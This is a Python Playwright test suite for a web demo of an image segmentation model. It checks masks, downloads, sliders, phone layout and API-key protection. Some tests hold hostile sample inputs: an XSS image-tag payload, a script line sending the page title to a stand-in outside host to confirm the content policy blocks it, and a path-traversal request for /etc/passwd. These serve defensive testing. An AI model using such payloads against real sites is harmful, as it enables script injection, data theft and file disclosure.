"""The page in a browser: asked, looked at, and kept from reaching anything but its server."""

import io
import json
import re
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from playwright.sync_api import Browser, ConsoleMessage, HttpCredentials, Page, Request, expect

from cris import Segmenter
from cris.card import SUMMARY, read_front_matter
from cris.data.scenes import Scenes
from cris.masks import decode_rle
from cris.registry import DEFAULT_MODEL, resolve
from cris.serving.visualize import COLOURS_RGB
from tests.fixtures.browser import launched
from tests.fixtures.served import Served, encoded, served, wait_for

SAMPLE = Scenes("test", size=320)[1]
SENTENCES = [SAMPLE.sentence, "the blue ring"]
PHONE = {"width": 390, "height": 844}
KEY = "open sesame"
PATIENCE = 60_000
"""Milliseconds that a step may take on a busy machine."""

expect.set_options(timeout=PATIENCE)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    # where its uploads go can then be looked into
    with served(env={"TMPDIR": str(tmp_path_factory.mktemp("temporary"))}) as running:
        yield running


@pytest.fixture(scope="module")
def browser(needs_browser: None) -> Iterator[Browser]:
    with launched() as started:
        yield started


@pytest.fixture(scope="module")
def tab(browser: Browser) -> Iterator[Page]:
    """What the page is opened in again and again: a new tab each time takes twice as long."""
    with browser.new_page() as made:
        yield made


@pytest.fixture
def page(server: Served, tab: Page) -> Iterator[Page]:
    with opened(server, tab):
        yield tab


@contextmanager
def opened(server: Served, tab: Page) -> Iterator[None]:
    """The page, whole; what it asks of others than its server, and what its policy blocks, is an error."""
    asked: list[str] = []
    blocked: list[str] = []

    def note_request(request: Request) -> None:
        asked.append(request.url)

    def note_message(message: ConsoleMessage) -> None:
        if "Content Security" in message.text:
            blocked.append(message.text)

    tab.set_default_timeout(PATIENCE)
    tab.context.on("request", note_request)  # to intercept them would disable the cache
    tab.on("console", note_message)
    tab.goto(server.url)
    expect(tab.locator("#find")).to_be_enabled()
    yield
    tab.goto("about:blank")
    tab.context.remove_listener("request", note_request)
    tab.remove_listener("console", note_message)
    elsewhere = [url for url in asked if not url.startswith((server.url, "data:", "blob:"))]
    assert elsewhere == blocked == []
    assert server.url + "/" in asked


def ask(page: Page, *sentences: str, image: bytes | None = None) -> None:
    content = {"name": "scene.png", "mimeType": "image/png", "buffer": image or encoded(SAMPLE.image)}
    page.locator("#picture input[type=file]").first.set_input_files(content)
    expect(page.locator("#picture img")).to_be_visible()
    page.locator("#sentences textarea").fill("\n".join(sentences))
    page.locator("#find").click()


def shown(page: Page) -> np.ndarray:
    """The pixels of the image with its masks."""
    url = page.locator("#found img").get_attribute("src")
    assert url is not None
    return np.asarray(Image.open(io.BytesIO(page.request.get(url).body())).convert("RGB")).astype(int)


def download(page: Page, button: str) -> bytes:
    with page.expect_download() as started:
        page.locator(button).click()
    return Path(started.value.path()).read_bytes()


def changed_pixels(page: Page) -> np.ndarray:
    return np.abs(shown(page) - SAMPLE.image).max(axis=2) > 40


def test_masks_are_seen_where_they_are_and_can_be_kept(page: Page):
    ask(page, *SENTENCES)
    rows = page.locator("table.findings tbody tr")
    expect(rows).to_have_count(len(SENTENCES))
    segmenter = Segmenter.from_pretrained("cris-scenes", "cpu")
    expected = segmenter.predict(SAMPLE.image, SENTENCES)
    for row, prediction in zip(rows.all(), expected, strict=True):
        cells = row.locator("th, td").all_inner_texts()
        assert cells[0].strip() == prediction.sentence
        assert cells[1].strip() == f"{prediction.score:.2f}"
        assert cells[2].strip() == f"{prediction.ambiguity:.2f}"
        assert cells[3] == f"{100 * prediction.mask.mean():.1f} %"
    pixels = shown(page)
    assert pixels.shape == SAMPLE.image.shape
    # half the image's colour and half the sentence's, but for the outline and what the JPEG costs
    inside = expected[1].mask & ~expected[0].mask
    tinted = (SAMPLE.image + np.array(COLOURS_RGB[1])) / 2
    assert (np.abs(pixels - tinted)[inside].max(axis=1) < 24).mean() > 0.8
    outside = ~(expected[0].mask | expected[1].mask)
    assert (np.abs(pixels - SAMPLE.image)[outside].max(axis=1) < 24).mean() > 0.95
    assert np.array_equal(np.asarray(Image.open(io.BytesIO(download(page, "#png")))), pixels)
    coco = json.loads(download(page, "#coco"))
    assert [category["name"] for category in coco["categories"]] == SENTENCES
    assert coco["images"][0]["file_name"] == "scene.png"
    with zipfile.ZipFile(io.BytesIO(download(page, "#zip"))) as archive:
        assert [name.rpartition(".")[0].rpartition(".")[2] for name in archive.namelist()] == [
            *("mask", "cutout"),
            *("mask", "cutout"),
        ]
    for annotation, prediction in zip(coco["annotations"], expected, strict=True):
        assert (decode_rle(annotation["segmentation"]) != prediction.mask).mean() < 1e-3


def test_sliders_redraw_without_asking_the_model(page: Page, server: Served):
    def asked() -> str:
        text = page.request.get(f"{server.url}/metrics").text()
        return re.findall(r"^cris_sentences_total .*", text, re.MULTILINE)[0]

    ask(page, SENTENCES[1])
    expect(page.locator("table.findings")).to_be_visible()
    before, pixels = asked(), changed_pixels(page).sum()
    area = page.locator("table.findings td").last
    share = area.inner_text()
    page.locator("#threshold input[type=range]").fill("0.9")
    expect(area).not_to_have_text(share)
    assert 0 < changed_pixels(page).sum() < pixels
    page.locator("#opacity input[type=range]").fill("0")
    wait_for(lambda: changed_pixels(page).sum() < pixels / 3)
    assert asked() == before


def test_what_is_typed_stays_text(page: Page):
    ask(page, "the <img src=x onerror=alert(1)> ring")
    expect(page.locator("table.findings tbody th")).to_have_text("the <img src=x onerror=alert(1)> ring")
    assert page.locator("table.findings img").count() == 0


def test_nothing_is_sent_or_loaded_from_elsewhere_whatever_gets_into_the_page(
    server: Served, browser: Browser
):
    page = browser.new_page()
    page.goto(server.url)
    with page.expect_console_message(lambda message: "Content Security" in message.text):
        page.evaluate("new Image().src = 'https://elsewhere.example/?' + document.title")
    assert (
        page.evaluate("fetch('https://elsewhere.example').catch(error => error.message)") == "Failed to fetch"
    )
    page.close()


def test_beside_the_page_programs_get_the_errors_they_know(server: Served):
    with server.client() as client:
        for answer, status in (
            (client.get("/nothing"), 404),
            (client.delete("/v1/segment"), 405),
            (client.get("/v1/segment"), 405),
            (client.post("/"), 405),
            (client.get("/gradio_api/file=/etc/passwd"), 403),
        ):
            assert answer.status_code == status
            assert answer.json().keys() == {"error", "detail", "hint"}


def test_what_is_wrong_is_told(page: Page):
    told = page.locator(".toast-body")
    page.locator("#find").click()
    expect(told).to_contain_text("Choose an image first")
    page.get_by_label("Close").first.click()
    ask(page, "<img src=x onerror=alert(1)> " * 20)
    expect(told.last).to_contain_text("longer than the model's 32 tokens")
    assert told.locator("img").count() == 0


@pytest.mark.parametrize("keys", ["Control+Enter", "Meta+Enter"])
def test_control_and_enter_find(page: Page, keys: str):
    content = {"name": "scene.png", "mimeType": "image/png", "buffer": encoded(SAMPLE.image)}
    page.locator("#picture input[type=file]").first.set_input_files(content)
    expect(page.locator("#picture img")).to_be_visible()
    page.locator("#sentences textarea").click()
    page.keyboard.type(SENTENCES[1])
    page.keyboard.press(keys)
    expect(page.locator("table.findings tbody th")).to_have_text(SENTENCES[1])


def test_an_example_is_answered_at_once(page: Page):
    page.get_by_text("the blue ring").click()
    expect(page.locator("table.findings tbody tr")).to_have_count(3)
    assert page.locator(".note").inner_text() == read_front_matter(resolve("cris-scenes"))[SUMMARY]


def test_a_phone_shows_it_and_a_keyboard_is_enough(server: Served, browser: Browser):
    with browser.new_page(viewport=PHONE) as page, opened(server, page):
        ask(page, SENTENCES[1])
        expect(page.locator("table.findings")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
        before = page.locator("table.findings tbody th").inner_text()
        page.locator("#sentences textarea").focus()
        page.keyboard.press("Control+a")
        page.keyboard.type(SENTENCES[0])
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        expect(page.locator("table.findings tbody th")).not_to_have_text(before)
        slider = page.locator("#threshold input[type=range]")
        value = float(slider.input_value())
        slider.focus()
        share = page.locator("table.findings td").last.inner_text()
        for _ in range(40):
            page.keyboard.press("ArrowRight")
        expect(page.locator("table.findings td").last).not_to_have_text(share)
        assert float(slider.input_value()) == pytest.approx(value + 0.4)


def test_the_default_model_is_shown_on_photographs_with_a_key_only_and_files_go_with_the_server(
    browser: Browser, tmp_path: Path
):
    env = {"CRIS_API_KEY": KEY, "TMPDIR": str(tmp_path)}
    with served(model=DEFAULT_MODEL, env=env) as server:
        with server.client() as client:
            for path in ("/", "/config", "/gradio_api/info", "/theme.css"):
                assert client.get(path).status_code == 401
            assert client.post("/gradio_api/upload", files={"files": b"a"}).status_code == 401
            large = client.post(
                "/gradio_api/upload", files={"files": b" " * (21 * 2**20)}, headers={"x-api-key": KEY}
            )
            assert large.status_code == 413
            answer = client.get("/", headers={"x-api-key": KEY, "origin": "https://elsewhere.example"})
            assert answer.status_code == 200
            assert "access-control-allow-origin" not in answer.headers
        credentials: HttpCredentials = {"username": "anyone", "password": KEY}
        with browser.new_page(http_credentials=credentials) as page, opened(server, page):
            assert page.locator(".note").inner_text() == read_front_matter(resolve(DEFAULT_MODEL))[SUMMARY]
            page.get_by_text("chair at the bottom").click()
            expect(page.locator("table.findings tbody tr")).to_have_count(2)
            page.reload()
            expect(page.locator("#find")).to_be_enabled()
            ask(page, SENTENCES[1])
            expect(page.locator("table.findings")).to_be_visible()
        assert list(tmp_path.rglob("scene.png"))
    assert not list(tmp_path.rglob("*.png"))
